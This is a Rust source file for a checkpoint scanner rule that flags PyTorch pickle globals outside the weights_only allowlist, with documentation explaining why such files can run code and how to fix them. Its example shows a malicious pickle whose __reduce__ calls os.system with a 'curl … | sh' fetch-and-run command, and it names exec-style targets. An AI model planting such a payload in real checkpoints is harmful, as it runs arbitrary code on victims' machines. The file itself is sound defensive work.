use crate::finding::Draft;
use crate::rule::{declare_rule, Context};

declare_rule!(UnsafeGlobalRule {
    code: "TP501",
    name: "unsafe-global",
    severity: Error,
    reads_bytes: false,
    summary: "A pickle references a global outside the allowlist (never executed).",
    doc: "\
What it checks
  Every global a pickle in the checkpoint names (GLOBAL, STACK_GLOBAL, INST, copyreg
  extensions), against PyTorch's `weights_only` allowlist: tensor rebuild functions,
  OrderedDict, dtypes, storage classes, torch.device and the like. tensorplay never imports
  or calls any of them; it reports each one with the archive member and byte position.

Why it matters
  `torch.load(..., weights_only=False)` (the default before torch 2.6, and what many
  loaders still pass) imports and calls whatever the pickle names: `os.system`,
  `builtins.exec`, `importlib.import_module`. A checkpoint is code.
  Whole-module pickles (`torch.save(model)`) also land here: loading them needs the class's
  code.

Example
  class Evil: __reduce__ = lambda self: (os.system, ('curl … | sh',))
  torch.save({'w': w, 'x': Evil()}, 'model.pt')   # references posix.system

How to fix
  Do not load the file with weights_only=False. Re-save a plain state_dict from a trusted
  environment, or convert it to safetensors.",
    check: check,
});

fn check(ctx: &Context<'_>, out: &mut Vec<Draft>) {
    for g in &ctx.ckpt.unsafe_globals {
        out.push(Draft {
            tensors: Vec::new(),
            storage: None,
            message: format!(
                "{} at byte {} references {}.{}: loading with weights_only=False would import and call it",
                g.member, g.position, g.module, g.name
            ),
            fix: "do not load this file with weights_only=False; re-save a plain state_dict from a trusted environment or convert to safetensors".into(),
        });
    }
}
